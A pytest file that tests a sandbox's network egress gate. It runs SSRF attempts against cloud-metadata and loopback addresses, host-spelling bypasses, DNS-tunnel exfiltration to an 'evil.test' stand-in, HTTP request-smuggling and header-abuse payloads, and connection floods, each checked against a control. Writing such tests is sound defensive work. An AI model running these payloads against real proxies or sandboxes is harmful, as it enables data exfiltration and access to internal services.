# SPDX-License-Identifier: Apache-2.0
"""test_egress_rules.py - The rules of egress. A world of its own (world_lib.py), and a sandbox that wants to reach it.

Each attack has a control that shows that the same thing would have arrived.
"""
import socket
import threading
import time

import daemon_lib
import pytest
import world_lib
from process import unique
from lib import at_most
from cell_lib import until
from named import Box
from world_lib import EVERYWHERE, METADATA, PRIVATE, US, US6, WORLD, WORLD6, NetDaemon, Server, attempts, inside, reached

from egress_lib import gate_of  # noqa: I001 - where that is, world_lib.py says

whole_module, hostile_test = daemon_lib.whole_module, daemon_lib.hostile_test
world, daemon = world_lib.world, world_lib.daemon
quick = pytest.mark.quick


# ---- without egress -----------------------------------------------------------------------------------

@quick
def test_no_packet_without_egress(world, daemon, stopped_by):
    with Box(daemon) as box:
        before, asked = world.packets(), len(world.dns.asked)
        got = attempts(box, f"""
for a in {EVERYWHERE!r}:
    attempt("tcp " + a, lambda: tcp(a, 80)); attempt("dns " + a, lambda: udp(a, 53)); attempt("echo " + a, lambda: tcp(a, 7007))
for a in ("8.8.8.8", "2606:4700:4700::1111"):
    six = socket.AF_INET6 if ":" in a else socket.AF_INET
    attempt("raw " + a, lambda: socket.socket(six, socket.SOCK_RAW, 1)); attempt("ping " + a, lambda: socket.socket(six, socket.SOCK_DGRAM, 58 if ":" in a else 1).sendto(b"x" * 8, (a, 0)))
for n in ("web.test", "metadata.google.internal", "localhost.evil", "x" * 60 + ".evil.test"):
    attempt("name " + n, lambda: tcp(n, 80))
def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.sendto(b"x", ("255.255.255.255", 9))
attempt("broadcast", broadcast)
""")
        assert not reached(got), reached(got)
        assert world.packets() == before and len(world.dns.asked) == asked, "something left"
        slow = {w: v for w, v in got.items() if v[1] > at_most(0.05) * 1000}
        assert not slow, slow
        # the Linux kernel has no route there, so nothing was tried (198.18.9.9 is an unused address of the gate's range)
        other = {w: o for w, (o, _) in got.items() if w.startswith(("tcp ", "echo ")) and "%" not in w and o != "Network is unreachable"}
        assert other == {f"{k} 198.18.9.9": "Connection refused" for k in ("tcp", "echo")}, other
    # control: with egress the same program arrives
    with Box(daemon, egress=["echo.test:7007"]) as box:
        assert reached(attempts(box, "attempt('echo', lambda: tcp('echo.test', 7007))")) == {"echo": "GOT b'hi'"}
        assert world.packets() > before
    stopped_by("network namespace", "no device but lo, no route")


# ---- where names lead ---------------------------------------------------------------------------------

@quick
def test_names_that_lead_inside(world, daemon, stopped_by):
    """Allowed names with forbidden addresses: nothing is sent there, and the ledger has the reason."""
    bad = PRIVATE + METADATA + [US, US6, "127.0.0.1", "0.0.0.0", "::", "::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::7f00:1",
                                "64:ff9b::a9fe:a9fe", "2002:7f00:1::1", "::7f00:1", "224.0.0.1", "255.255.255.255", "fe80::1", "ff02::1"]
    for i, a in enumerate(bad):
        world.dns.zone[f"n{i}.test"] = [a]
    world.dns.zone["alias.test"] = ["=n0.test"]
    names = [f"n{i}.test" for i in range(len(bad))] + ["alias.test"]
    peers = len(world.echo.peers)
    with Box(daemon, egress=[f"{n}:7007" for n in names] + [f"{n}:{daemon.port}" for n in names]) as box:
        got = attempts(box, f"for n in {names!r}:\n    attempt(n, lambda: tcp(n, 7007)); attempt(n + ' api', lambda: tcp(n, {daemon.port}))")
        assert not reached(got), reached(got)
        assert len(world.echo.peers) == peers
        assert not {w: v for w, v in got.items() if v[1] > at_most(1) * 1000}
        refused = {e["host"] for e in daemon.ledger(box.name) if e["event"] == "egress.refuse"}
        assert set(names) <= refused | {e["host"] for e in daemon.ledger(box.name) if e["event"] == "egress.fail"}, set(names) - refused
    stopped_by("gate: addresses after resolution", "an address of this machine")


def test_metadata_in_every_mode(world, stopped_by):
    """An operator who allows all private addresses has not allowed this one."""
    with NetDaemon(world, "--pool", "1", "--egress-private", "0.0.0.0/0,::/0") as d:
        for i, a in enumerate(METADATA + ["10.7.0.1"]):
            world.dns.zone[f"m{i}.test"] = [a]
        peers = len(world.echo.peers)
        with Box(d, egress=[f"m{i}.test:7007" for i in range(5)]) as box:
            got = attempts(box, "for i in range(5): attempt(i, lambda: tcp('m%d.test' % i, 7007))")
        assert reached(got) == {"4": "GOT b'hi'"}, got
        assert len(world.echo.peers) == peers + 1
    stopped_by("gate: addresses that no option lets through")


@quick
def test_dns_answers_that_change(world, daemon, stopped_by):
    """TTL 0, a public and a private answer in turn, a mix of both: the gate connects to the address that it judged."""
    turn = iter([[WORLD], ["10.7.0.1"]] * 40)
    world.dns.zone["turn.test"] = lambda: next(turn)
    world.dns.zone["mix.test"] = ["10.7.0.1", "169.254.169.254", WORLD, "fd00:ec2::254"]
    peers = len(world.echo.peers)
    with Box(daemon, egress=["turn.test:7007", "mix.test:7007"]) as box:
        got = attempts(box, "for i in range(12): attempt('turn%d' % i, lambda: tcp('turn.test', 7007))\nattempt('mix', lambda: tcp('mix.test', 7007))")
        assert "mix" in reached(got)
        opened = [e for e in daemon.ledger(box.name) if e["event"] == "egress.open"]
    assert {e["address"] for e in opened} <= {WORLD}
    assert len(world.echo.peers) - peers == len(opened) == len(reached(got))
    stopped_by("gate: the address that was judged is connected to")


# ---- spellings ----------------------------------------------------------------------------------------

@quick
def test_host_spellings(world, daemon, stopped_by):
    """With one host allowed: every other way to write another one, or an address, leads nowhere."""
    hosts = ["127.1", "2130706433", "0x7f.1", "0177.0.0.1", "0", "0.0.0.0", "::ffff:127.0.0.1", "::ffff:11.0.0.2", "[::1]", "fe80::1%lo", "11.0.0.2",
             "184549378", "0xb000002", "evil-echo.test", "echo.test.evil", "xecho.test", "echo.test@evil.test", "evil.test#.echo.test", "echo.test.",
             "ECHO.TEST", "echo.test..", "sub.echo.test", "echo", "test", "echo.test\\x00.evil.test", "evil.test\\x00.echo.test", "echo.test ", " echo.test",
             "echo.test\\r\\n", "echo\\u3002test", "\\u1d49cho.test", "xn--echo.test", "localhost", "ip6-localhost", "198.18.0.1", "198.18.1.1", "2001:2::1",
             "metadata.google.internal", "web.test", "us.test"]
    with Box(daemon, egress=["echo.test:7007"]) as box:
        asked = len(world.dns.asked)
        got = attempts(box, "for h in %r:\n    h = h.encode().decode('unicode_escape')\n    attempt(ascii(h), lambda: tcp(h, 7007))" % hosts)
        # those that are the same name, and nothing else; of a NUL the cell's own C library has seen what is before it
        assert {w.strip("'") for w in reached(got)} <= {"echo.test.", "ECHO.TEST", "echo\\u3002test", "echo.test\\x00.evil.test"}, reached(got)
        assert "echo.test." in {w.strip("'") for w in reached(got)}, "the control"
        assert set(world.dns.asked[asked:]) <= {"echo.test"}, world.dns.asked[asked:]
        assert not {w: v for w, v in got.items() if v[1] > at_most(1) * 1000}
    stopped_by("gate: one form of a name", "address of the name decides")


@quick
def test_empty_allow_list_allows_nothing(world, daemon, stopped_by):
    for spec in ({}, {"egress": []}, {"egress": None}):
        r = daemon.request("POST", "/v1/sandboxes", {"name": unique(), **spec})
        if r.status == 422:  # null is not a list
            continue
        name = r.json["name"]
        box = Box.__new__(Box)
        box.daemon, box.name, box.token, box.url = daemon, name, True, "/v1/sandboxes/" + name
        before = world.packets()
        assert not reached(attempts(box, "for n in ('echo.test', 'web.test', '11.0.0.2'): attempt(n, lambda: tcp(n, 7007))"))
        assert world.packets() == before and box.about()["spec"]["egress"] == []
        box.remove()
    stopped_by("no sockets, no rules")


# ---- names as a channel -----------------------------------------------------------------------------------------

def test_dns_names_as_a_channel(world, daemon, stopped_by):
    """A hundred thousand bits in names, types that carry text, other resolvers: no resolver outside receives one of them."""
    with Box(daemon, egress=["echo.test:7007", "*.wide.test:7007"]) as box:
        asked, before = len(world.dns.asked), world.packets()
        got = attempts(box, """
def ask(name, kind, to="198.18.0.1"):
    q = b"ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect((to, 53)); s.send(q)
    r = s.recv(600)
    return (r[3] & 15, r[7])
out = set()
for i in range(120):
    for kind in (1, 16, 10, 15):
        try: out.add(ask("%060x.t.evil.test" % i, kind))
        except OSError as e: out.add(e.errno)
attempt("tunnel", lambda: sorted(map(str, out)))
attempt("wide", lambda: ask("secret.wide.test", 1)); attempt("wide text", lambda: ask("secret.wide.test", 16))
for a in ("8.8.8.8", "11.0.0.2"): attempt("udp " + a, lambda: ask("echo.test", 1, a))
for a, p in (("8.8.8.8", 53), ("8.8.8.8", 853), ("8.8.8.8", 443), ("11.0.0.2", 53)): attempt("tcp %s %d" % (a, p), lambda: tcp(a, p))
""")
        assert not reached(got), got
        assert set(got["tunnel"][0].strip("[]").split(", ")) & {"'(3", "\"(3"} or "(3, 0)" in got["tunnel"][0], got
        assert len(world.dns.asked) == asked and world.packets() == before, "a name that was only asked for has left"
        assert got["wide"][0] == "(0, 1)" and got["wide text"][0] == "(0, 0)"
        # control: a connection to it causes a question
        attempts(box, "attempt('x', lambda: tcp('secret.wide.test', 7007))")
        assert "secret.wide.test" in world.dns.asked[asked:]
    stopped_by("gate: its resolver asks nobody", "no route to any other")


# ---- HTTP -------------------------------------------------------------------------------------------------------

@quick
def test_http_proxy_abuse(world, daemon, stopped_by):
    """Hosts, targets and CONNECTs that name another host; a redirect is a new connection to a name."""
    heads = len(world.web.heads)
    with Box(daemon, egress=["web.test"]) as box:
        got = attempts(box, """
for i, head in enumerate((b"GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", b"GET http://other.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n",
             b"CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: web.test\\r\\nHost: other.test\\r\\n\\r\\n",
             b"GET / HTTP/1.1\\r\\nHost: web.test@other.test\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost:\\x0bother.test\\r\\n\\r\\n", b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")):
    attempt("bad%d" % i, lambda: tcp("web.test", 80, head))
attempt("good", lambda: tcp("web.test", 80, b"GET / HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: close\\r\\n\\r\\n"))
attempt("redirect", lambda: tcp("other.test", 80))
""")
        assert all("403 Forbidden" in got[f"bad{i}"][0] for i in range(7)), got
        assert "200 OK" in got["good"][0] and "GOT" not in got["redirect"][0]
    assert len(world.web.heads) == heads + 1
    stopped_by("gate: first bytes against the name")


@quick
def test_later_requests_on_a_connection(world, daemon, stopped_by):
    """A connection that is kept open, a first request that is harmless, and then others: each names a host."""
    first, ask = b"GET /1 HTTP/1.1\r\nHost: web.test\r\n\r\n", "b'GET /evil HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'"
    # The control: the server itself answers both on one connection, and reports the host of each.
    c = inside(world.them, socket.create_connection, (WORLD, 80))
    c.sendall(first)
    assert b"hello from web.test" in answer_of(c)
    c.sendall(eval(ask))  # noqa: S307 - a literal of ours
    assert b"hello from other.test" in answer_of(c), "the control"
    c.close()
    heads = len(world.web.heads)
    with Box(daemon, egress=["web.test"]) as box:
        got = attempts(box, f"""
def kept(later, apart):
    with socket.create_connection(("web.test", 80), 5) as s:
        one = {first!r}
        s.sendall(one if apart else one + later)
        got = s.recv(1000)
        if apart: s.sendall(later)
        for _ in range(2):
            try: more = s.recv(1000)
            except OSError: break
            if not more: break
            got += more
        return "GOT %r" % got
evil = {ask}
for apart in (True, False):
    attempt("plain%d" % apart, lambda: kept(evil, apart))
    attempt("absolute%d" % apart, lambda: kept(evil.replace(b"/evil", b"http://other.test/evil"), apart))
    attempt("twice%d" % apart, lambda: kept(evil.replace(b"Host", b"Host: web.test\\r\\nHost"), apart))
    attempt("body%d" % apart, lambda: kept(b"POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil, apart))
attempt("good", lambda: kept({first!r}, True))
""")
        assert all("200 OK" in o for o in reached(got).values()), got
        assert got["good"][0].count("200 OK") == 2, "the control: a second one for the same host"
        assert all("421" in got[f"plain{k}"][0] for k in (0, 1)), got
    seen = world.web.heads[heads:]
    assert len(seen) == 8 + 2 and all(h["host" if "host" in h else "Host"] == "web.test" for _, h in seen), seen
    stopped_by("gate: every request against the name")


def whole_requests(c):
    """A server that reads a body of the announced length, and takes the rest for the next request."""
    text = b""

    def more():
        nonlocal text
        got = c.recv(4096)
        if not got:
            raise ConnectionError("it is over")
        text += got
    while True:
        while b"\r\n\r\n" not in text:
            more()
        head, text = text.split(b"\r\n\r\n", 1)
        fields = dict(line.lower().split(": ", 1) for line in head.decode("latin-1").split("\r\n")[1:])
        while len(text) < int(fields.get("content-length", 0)):
            more()
        text = text[int(fields.get("content-length", 0)):]
        whole_requests.seen.append((head.split()[1].decode(), fields))
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhello from")


@quick
def test_hop_by_hop_headers(world, daemon, stopped_by):
    """Hop-by-hop headers end at the gate, and `Connection` cannot name headers that define the request."""
    seen = whole_requests.seen = []
    server = inside(world.them, Server, whole_requests, address=WORLD, port=8093)
    inner = b"GET /evil HTTP/1.1\r\nHost: other.test:8093\r\n\r\n"
    head = b"POST /outer HTTP/1.1\r\nHost: web.test:8093\r\nConnection: content-length\r\n"
    lent = b"GET /lent HTTP/1.1\r\nHost: web.test:8093\r\nConnection: host, x-mine\r\nX-Mine: 1\r\nX-Kept: 2\r\nTE: trailers\r\n" \
           b"Keep-Alive: 5\r\nProxy-Connection: keep-alive\r\nProxy-Authorization: Basic Y2FuYXJ5\r\n\r\n"
    hidden = head + b"Content-Length: %d\r\n\r\n" % len(inner) + inner
    plain = b"GET /plain HTTP/1.1\r\nHost: web.test:8093\r\n\r\n"
    try:
        # The control: without its length that body is a request of its own, and a header for a proxy arrives.
        c = inside(world.them, socket.create_connection, (WORLD, 8093))
        c.sendall(head + b"\r\n" + inner + lent)
        until(lambda: len(seen) == 3, 10, "three requests")
        c.close()
        assert [p for p, _ in seen] == ["/outer", "/evil", "/lent"] and "proxy-authorization" in seen[2][1], "the control"
        del seen[:]
        with Box(daemon, egress=["web.test:8093"]) as box:
            got = attempts(box, f"""
attempt("body", lambda: tcp("web.test", 8093, {hidden!r}))
attempt("lent", lambda: tcp("web.test", 8093, {lent!r}))
attempt("plain", lambda: tcp("web.test", 8093, {plain!r}))
""")
            assert all("200 OK" in o for o, _ in got.values()), got
        assert [p for p, _ in seen] == ["/outer", "/lent", "/plain"], seen
        assert all(f["host"] == "web.test:8093" for _, f in seen) and seen[0][1]["content-length"] == str(len(inner)), seen
        assert seen[1][1] == {"host": "web.test:8093", "x-kept": "2"}, seen[1]
    finally:
        server.close()
    stopped_by("gate: requests are written anew, with a length and a host")


def answer_of(c):
    """One answer with a body that is short."""
    text = b""
    while b"hello from" not in text:
        got = c.recv(1000)
        assert got, text
        text += got
    return text


# ---- rules that become tighter, sessions that end ------------------------------------------------------------------

@quick
@pytest.mark.parametrize("how", ["rules", "remove", "kill"])
def test_connections_end_with_their_rule(world, daemon, how, stopped_by):
    with Box(daemon, egress=["echo.test:7007"]) as box:
        box.execute("import socket\ns = socket.create_connection(('echo.test', 7007)); s.sendall(b'x'); s.recv(1)")
        assert established(world), "the control"
        if how == "rules":
            assert box.request("PUT", "/egress", {"egress": ["web.test"]}).status == 200
        elif how == "remove":
            assert box.remove() == 204
        else:
            assert box.request("POST", "/kill", {}).status == 200
        until(lambda: not established(world), 5, "the end of its connections, from outside")
    stopped_by("gate cuts what no rule allows")


def established(world):
    return world.us.run("ss", "-Htn", "state", "established", "dport", "=", ":7007").strip()


# ---- floods ------------------------------------------------------------------------------------------------------

def test_connection_floods(world, daemon, stopped_by):
    """Connections and datagrams as fast as a cell can: its own are bounded, a neighbour's go on, the gate does not grow."""
    gate = gate_of(daemon.pid)

    def rss():
        return int(next(x for x in daemon_lib.read(f"/proc/{gate}/status").splitlines() if x.startswith("VmRSS")).split()[1])
    before = rss()
    with Box(daemon, egress=["echo.test:7007"]) as bad, Box(daemon, egress=["echo.test:7007"]) as good:
        flood = threading.Thread(target=lambda: bad.execute("""
import socket, threading, time
end = time.monotonic() + 6
def datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
    while time.monotonic() < end:
        try: s.sendto(b"x" * 60, ("198.18.0.1", 53))
        except OSError: pass
def connections():
    kept = []
    while time.monotonic() < end:
        try:
            c = socket.socket(); c.setblocking(False); c.connect_ex(("198.18.1.0", 7007)); kept.append(c)
        except OSError: kept = kept[100:]
socket.getaddrinfo("echo.test", 7007)
all = [threading.Thread(target=f) for f in (datagrams, connections, connections)]
for t in all: t.start()
for t in all: t.join()
""", timeout=30))
        flood.start()
        time.sleep(1)
        worst = 0
        for _ in range(8):
            got = attempts(good, "attempt('x', lambda: tcp('echo.test', 7007))")
            assert reached(got), got
            worst = max(worst, got["x"][1])
        flood.join()
        numbers = bad.request("GET", "/net").json
        assert numbers["live"] <= 256, numbers
        assert rss() < before + (16 << 10) or daemon_lib.SANITIZED, (before, rss())
        assert sum(e["event"] != "egress.flood" for e in daemon.ledger(bad.name)) < 1500
        assert worst < at_most(2) * 1000, worst
    stopped_by("gate: connections, rate, datagrams that wait in the kernel")


# ---- listeners in cells ------------------------------------------------------------------------------------------

@quick
def test_listeners_stay_inside(world, daemon, stopped_by):
    with Box(daemon, egress=["echo.test:7007"]) as box, Box(daemon, egress=["echo.test:7007"]) as other:
        got = attempts(box, """
kept = []
def listen(host, port):
    s = socket.create_server((host, port), family=socket.AF_INET6 if ":" in host else socket.AF_INET); kept.append(s); return "listens"
for h, p in (("0.0.0.0", 5005), ("::", 5006), ("0.0.0.0", 80), ("198.18.1.0", 5007)): attempt("%s %d" % (h, p), lambda: listen(h, p))
""")
        assert all(o == "listens" for o, _ in got.values()), got
        listening = world.us.run("ss", "-Hltn")
        assert not [x for x in listening.splitlines() if any(f":{p} " in x for p in (5005, 5006, 80, 5007, 7007, 53))], listening
        assert not reached(attempts(other, "for p in (5005, 5006, 80, 5007):\n  for h in ('127.0.0.1', '198.18.0.1', '198.18.1.0'): attempt((h, p), lambda: tcp(h, p))"))
    stopped_by("network namespace")


# ---- the other family --------------------------------------------------------------------------------------------

@quick
def test_ipv6_rules_are_the_same(world, daemon, stopped_by):
    with Box(daemon, egress=["six.test:7007"]) as box:
        got = attempts(box, f"""
six = socket.getaddrinfo("six.test", 7007, socket.AF_INET6)[0][4][0]
attempt("by v6", lambda: tcp(six, 7007)); attempt("by name", lambda: tcp("six.test", 7007))
for a in ({WORLD6!r}, {US6!r}, "::1", "2001:2::77", "fd12::9"): attempt(a, lambda: tcp(a, 7007))
""")
        assert set(reached(got)) == {"by v6", "by name"}, got
    stopped_by("gate: both families")
